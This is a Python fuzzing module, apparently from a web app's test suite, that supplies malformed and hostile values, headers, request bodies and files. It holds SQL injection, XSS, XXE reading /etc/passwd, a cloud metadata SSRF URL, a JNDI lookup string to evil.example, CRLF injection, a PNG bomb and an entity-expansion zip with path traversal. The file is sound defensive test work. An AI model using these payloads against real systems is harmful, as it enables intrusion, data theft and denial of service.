"""What nobody means well by: values, files, addresses and headers that break programs."""

import io
import random
import zipfile

from PIL import Image

MARK = "<wwnt-fuzz \"'>"
"""Must never stand in a page as it is."""

TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\nBcc: eve@example.org\r\n\r\nbody",
    "a\nb\rc\u2028d\x85e",
    MARK,
    "{{ 7|add:7 }}{% now 'Y' %}%(name)s%s{0}",
    "\u202eevil\u202c\u2066x\u2069",
    "مرحبا بكم في الاجتماع",
    "Siân Gŵyl Ŵŷ ŵŷŶŵ",
    "👩‍👩‍👧‍👦" * 40,
    "e" + "\u0301" * 300,
    "x" * 300,
    "x" * 20_000,
    "'; DROP TABLE events_ticket; --",
    "' OR 1=1 --",
    "%27%00%ff",
    "../../../../etc/passwd",
    "\\\\server\\share",
    "javascript:alert(1)",
    "//evil.example/",
    "https://evil.example/\r\nSet-Cookie: a=b",
    "/\\evil.example",
    "http://169.254.169.254/latest/meta-data/",
    "=1+1",
    "@SUM(A1)",
    "a@b",
    "ben@example.org",
    '"a\\"b"@example.org',
    "a" * 250 + "@example.org",
    "ben@xn--\u00e9.example",
    "0",
    "-1",
    "1e999",
    "NaN",
    "Infinity",
    "9" * 40,
    str(2**31),
    str(2**63),
    str(-(2**63) - 1),
    "1.5",
    "0x10",
    "٣",
    "²",
    "1_000",
    "true",
    "null",
    "undefined",
    "[]",
    "{}",
    "on",
    "2027-02-30",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "-2027-06-16",
    "31/12/9999",
    "2027-03-28T01:30",
    "2027-10-31T01:30",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "24:00",
    "25:61",
    "00000000-0000-0000-0000-000000000000",
    "cy",
    "xx",
    "cy\x00",
)
RAW = (b"%ED%A0%80", b"%FF%FE", b"%", b"%zz", b"%00", b"%C0%AF", b"+", b"=", b"%E2%80%AE")
"""Bytes of a form's body that are no text in UTF-8."""

KINDS = (
    "application/json",
    "text/xml",
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=\xe9",
    "multipart/form-data; boundary=" + "b" * 300,
    "multipart/form-data; boundary=b; charset=nonsense",
    "application/x-www-form-urlencoded; charset=nonsense",
    "application/x-www-form-urlencoded; charset=utf-16",
    "text/plain",
    "nonsense",
    "",
)
BODIES = (
    b"",
    b"{",
    b'{"a": [1, {"b": null}]}' * 50,
    b"[" * 5000,
    b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nx',
    b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n'
    b"Content-Transfer-Encoding: base64\r\n\r\n@@@\r\n--b--",
    b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--",
    b'--b\r\nContent-Disposition: form-data; name="\xff\xfe"\r\n\r\n\xff\r\n--b--',
    b"--b\r\n" + b"X-A: " + b"a" * 9000 + b"\r\n\r\nx\r\n--b--",
    b"--b\r\nContent-Disposition: form-data; name*=utf-7''a; filename*=utf-8''%00\r\n\r\nx\r\n--b--",
    b"&".join(b"a%d=1" % number for number in range(2500)),
    b"a=" + b"x" * 1_100_000,
    b"\x00\xff" * 500,
)
NAMES = (
    "list.csv",
    "..",
    "../../../evil.py",
    "a\r\nX-Evil: 1.png",
    "nul\x00.csv",
    "x" * 300 + ".png",
    "\u202egnp.exe",
    'quo"te;.jpg',
    "CON.csv",
    ".htaccess",
    "Gŵyl 😀.jpeg",
    " ",
)
HEADERS = {
    "Host": (
        "evil.example",
        "testserver:99999",
        "testserver, evil.example",
        "[::1",
        "",
        "testserver\u00e9",
        "a" * 300,
    ),
    "X-Forwarded-For": ("", "1.2.3.4, evil", "\x00", "::1, " * 300),
    "X-Forwarded-Host": ("evil.example",),
    "X-Forwarded-Proto": ("https", "gopher"),
    "X-Request-ID": ("a\x0bb", "x" * 5000, "${jndi:ldap://evil.example/a}"),
    "User-Agent": ("", "\x1b[31mred", "x" * 5000, "'\"><script>"),
    "Accept-Language": ("cy" * 500, "xx-XX,;q=x", ",,,;q=;", "\xff", "cy;q=1e9"),
    "Accept-Encoding": ("gzip;q=x", "br, gzip, zstd", "\xff"),
    "Accept": ("application/json", "*", "\x00"),
    "Cookie": (
        "sessionid=" + "x" * 500,
        "language=xx",
        "messages=%00",
        "messages=a:b:c",
        "=;;=a",
        "csrftoken=\xff",
    ),
    "Referer": ("//evil.example", "\x00", "https://testserver/../.."),
    "Origin": ("null", "https://evil.example"),
    "Content-Length": ("-1", "abc", "99999999999999", "0"),
    "If-None-Match": ('"x', "*", "W/"),
    "If-Modified-Since": ("yesterday", "Thu, 01 Jan 9999999 00:00:00 GMT"),
    "Range": ("bytes=0-", "bytes=-9999999999999", "bytes=5-1,x"),
    "HX-Request": ("true",),
    "HX-Current-URL": ("//evil.example", "%00", "http://[::1"),
    "HX-Current-URL-URI-AutoEncoded": ("x",),
    "Sec-Fetch-Site": ("cross-site", "x"),
    "X-HTTP-Method-Override": ("DELETE",),
}
QUERIES = (
    "page",
    "q",
    "language",
    "lang",
    "next",
    "search",
    "invite",
    "state",
    "hat",
    "sort",
    "o",
    "p",
    "all",
    "id__in",
)
PLACES = (
    "%00",
    "%FF%FE",
    "..%2f..%2f",
    "9" * 30,
    "-1",
    "0",
    "%0d%0aX-Evil:1",
    "a" * 3000,
    "%E2%80%AE",
    "~",
    "%F0%9F%98%80",
)


def text(chance: random.Random) -> str:
    """One nasty value: from the list, two of them together, or letters at random from all of Unicode."""
    throw = chance.random()
    if throw < 0.75:
        return chance.choice(TEXTS)
    if throw < 0.9:
        return chance.choice(TEXTS) + chance.choice(TEXTS)
    letters = (chance.randrange(0x110000) for _ in range(chance.randrange(1, 60)))
    return "".join(chr(each) for each in letters if not 0xD800 <= each < 0xE000)


def picture(kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    """A true picture."""
    out = io.BytesIO()
    Image.new("P" if kind == "GIF" else "RGB", size).save(out, kind)
    return out.getvalue()


def bomb() -> bytes:
    """A PNG that says it is as big as a town."""
    data = bytearray(picture("PNG"))
    data[16:24] = (60_000).to_bytes(4, "big") * 2
    return bytes(data)


def workbook() -> bytes:
    """A spreadsheet file with an entity that grows for ever in it."""
    out = io.BytesIO()
    grows = '<!DOCTYPE a [<!ENTITY a "aaaa">' + "".join(
        f'<!ENTITY {chr(98 + number)} "{f"&{chr(97 + number)};" * 10}">' for number in range(9)
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", f"<?xml version='1.0'?>{grows}]><a>&j;</a>")
        packed.writestr("xl/workbook.xml", f"<?xml version='1.0'?>{grows}]><a>&j;</a>")
        packed.writestr("../../evil", "x" * 100_000)
    return out.getvalue()


LIST = "Enw,E-bost,Iaith,Ffôn\nBen Price,ben@example.org,English,029 2000 0000\n,,,\n=1+1,not-an-address,Klingon,x\n"


def files() -> tuple[bytes, ...]:
    """Files, good and bad, before they are damaged."""
    return (
        LIST.encode(),
        LIST.encode("utf-16"),
        LIST.encode("cp1252", "replace"),
        LIST.replace(",", ";").encode() * 200,
        b'a,"b\n' * 50,
        b"a," * 5000 + b"\n",
        b"",
        b"\x00" * 100,
        b"\xff\xfe",
        b"sep=,\n",
        *(picture(kind) for kind in ("PNG", "JPEG", "GIF", "WEBP", "BMP", "TIFF")),
        bomb(),
        picture("GIF") + b"<script>alert(1)</script>",
        b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"<html><script>alert(1)</script>",
        b"%PDF-1.7\n",
        workbook(),
    )


def damaged(chance: random.Random, data: bytes) -> bytes:
    """A file with some of its bytes changed, or its end cut off."""
    if not data or chance.random() < 0.4:
        return data
    if chance.random() < 0.4:
        return data[: chance.randrange(len(data))]
    broken = bytearray(data)
    for _ in range(chance.randrange(1, 20)):
        broken[chance.randrange(len(broken))] = chance.randrange(256)
    return bytes(broken)
